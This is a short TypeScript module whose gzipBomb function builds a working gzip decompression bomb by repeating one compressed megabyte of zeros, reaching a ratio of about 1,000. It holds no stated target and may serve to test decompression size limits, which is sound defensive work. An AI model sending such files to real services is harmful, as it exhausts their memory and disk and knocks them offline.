/**
 * A gzip bomb built in memory in a few hundred milliseconds: one deflate block of 1 MiB of zeros
 * compressed once (about 1 KB), ended with a full flush so that it depends on no earlier data and can be
 * repeated, then the final empty block and a correct trailer (CRC-32 and length). A 1 GiB bomb is
 * about 1 MB, a ratio of about 1,000, close to deflate's ceiling.
 */
import zlib from 'node:zlib';

const MIB = 1024 * 1024;
const GZIP_HEADER = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
// BFINAL=1, BTYPE=01 (fixed Huffman), end-of-block: a final block with nothing in it.
const FINAL_EMPTY_BLOCK = [0x03, 0x00];

/** A valid .gz member inflating to `mebibytes` MiB of zero bytes. */
export function gzipBomb(mebibytes: number): Uint8Array {
  const zeros = Buffer.alloc(MIB);
  const block = zlib.deflateRawSync(zeros, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  let crc = 0;
  for (let i = 0; i < mebibytes; i++) crc = zlib.crc32(zeros, crc);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc, 0);
  trailer.writeUInt32LE((mebibytes * MIB) % 2 ** 32, 4);
  const bomb = new Uint8Array(GZIP_HEADER.length + block.length * mebibytes + FINAL_EMPTY_BLOCK.length + trailer.length);
  bomb.set(GZIP_HEADER, 0);
  let offset = GZIP_HEADER.length;
  for (let i = 0; i < mebibytes; i++, offset += block.length) bomb.set(block, offset);
  bomb.set(FINAL_EMPTY_BLOCK, offset);
  bomb.set(trailer, offset + FINAL_EMPTY_BLOCK.length);
  return bomb;
}
